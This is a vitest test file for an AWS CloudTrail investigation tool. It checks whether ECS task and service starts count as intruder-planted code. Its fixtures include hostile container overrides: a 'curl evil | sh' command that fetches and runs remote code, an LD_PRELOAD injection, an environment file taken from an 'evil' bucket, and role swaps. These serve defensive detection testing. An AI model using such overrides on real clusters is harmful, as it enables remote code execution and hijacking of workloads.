import { describe, expect, test } from 'vitest';
import { effectWords } from '../../../src/investigation/report/effect-words.ts';
import { remediesOf } from '../../../src/investigation/plan/remedies.ts';
import type { JsonObject } from '../../../src/model/json.ts';
import { accountId } from '../trail-records.ts';
import { assessed, call, callByAdmin } from './assessed.ts';

const day = 1440;
const arn = `arn:aws:ecs:us-east-1:${accountId}`;
const role = `arn:aws:iam::${accountId}:role/ops`;

type Starting = (definition: string, more?: JsonObject, revision?: string) => readonly [string, JsonObject, JsonObject];

function task(action: string): Starting {
  return (taskDefinition, more = {}, revision = 'app:3') => [
    action,
    { cluster: 'prod', taskDefinition, ...more },
    { tasks: [{ taskArn: `${arn}:task/prod/0a1b`, taskDefinitionArn: `${arn}:task-definition/${revision}` }] },
  ];
}

function service(action: string, named: JsonObject): Starting {
  return (taskDefinition, more = {}, revision = 'app:3') => [
    action,
    { cluster: 'prod', ...named, taskDefinition, ...more },
    { service: { serviceName: 'web', taskDefinition: `${arn}:task-definition/${revision}` } },
  ];
}

const starts: readonly (readonly [string, Starting, string])[] = [
  ['RunTask', task('RunTask'), 'started container task 0a1b'],
  ['StartTask', task('StartTask'), 'started container task 0a1b'],
  ['UpdateService', service('UpdateService', { service: 'web' }), 'started container service prod/web'],
  ['CreateService', service('CreateService', { serviceName: 'web' }), 'started container service prod/web'],
];
const tasks = starts.filter(([action]) => action.endsWith('Task'));

function registered(by: typeof call, minutes: number, revision = 3): JsonObject {
  return by(minutes, 'ecs', 'RegisterTaskDefinition', {
    requestParameters: { family: 'app', containerDefinitions: [{ name: 'app', image: 'app:1' }] },
    responseElements: { taskDefinition: { taskDefinitionArn: `${arn}:task-definition/app:${revision}`, revision } },
  });
}

function started([action, requestParameters, responseElements]: ReturnType<Starting>): JsonObject {
  return call(9, 'ecs', action, { requestParameters, responseElements });
}

function outcome(...records: readonly JsonObject[]) {
  const assessment = assessed([call(0, 's3', 'ListBuckets'), ...records]);
  const { effects, findings, waysIn } = assessment;
  return {
    findings: findings.map(({ kind }) => kind),
    code: waysIn.filter(({ what }) => what.kind === 'code').map(({ state }) => state),
    remedies: remediesOf(assessment).map(({ type }) => type),
    words: effects.map(({ effect }) => String(effectWords(effect))),
  };
}

describe("the owners' own definition, run by an intruder, is no code of the intruder's", () => {
  test.each(starts)('%s, of what they registered before', (_, start, words) => {
    const told = outcome(registered(callByAdmin, -30 * day), started(start('app:3')));
    expect(told).toMatchObject({ findings: [], code: [], words: [words] });
    expect(told.remedies).not.toContain('removeCode');
  });

  test.each(starts)('%s, of what no record tells, by its ARN, or by its family', (_, start, words) => {
    for (const definition of ['app:3', 'app', `${arn}:task-definition/app:3`]) {
      expect(outcome(started(start(definition)))).toMatchObject({ findings: [], code: [], words: [words] });
    }
  });

  test.each(tasks)('%s, with more memory', (_, start, words) => {
    const overrides = { cpu: '1024', containerOverrides: [{ name: 'app', memory: 4096 }] };
    expect(outcome(started(start('app:3', { overrides })))).toMatchObject({ findings: [], code: [], words: [words] });
  });
});

describe("it is code of the intruder's", () => {
  test.each(starts)('%s, where they registered it, however it is named', (_, start) => {
    for (const definition of ['app:3', 'app', `${arn}:task-definition/app:3`]) {
      expect(outcome(registered(call, 1), started(start(definition))).code).toEqual(['open', 'open']);
    }
  });

  test.each(starts)('%s, and none of an older revision than theirs', (_, start) => {
    expect(outcome(registered(call, 1, 4), started(start('app:3'))).code).toEqual(['open']);
  });

  const planting: readonly (readonly [string, JsonObject])[] = [
    ['a command', { containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] }],
    ['an environment', { containerOverrides: [{ name: 'app', environment: [{ name: 'LD_PRELOAD', value: '/x' }] }] }],
    ['files of an environment', { containerOverrides: [{ environmentFiles: [{ value: 'arn:aws:s3:::evil/env' }] }] }],
    ['what nobody has heard of yet', { containerOverrides: [{ name: 'app', entryPoint: ['sh'] }] }],
    ['a role', { taskRoleArn: role }],
    ['a role to begin with', { executionRoleArn: role }],
    ['what the record withholds', 'HIDDEN_DUE_TO_SECURITY_REASONS' as unknown as JsonObject],
  ];

  describe.each(tasks)('%s', (_, start) => {
    test.each(planting)('with %s of their own', (__, overrides) => {
      const told = outcome(registered(callByAdmin, -30 * day), started(start('app:3', { overrides })));
      expect(told.findings).toContain('code-planted');
      expect(told.code).toEqual(['open']);
    });
  });
});
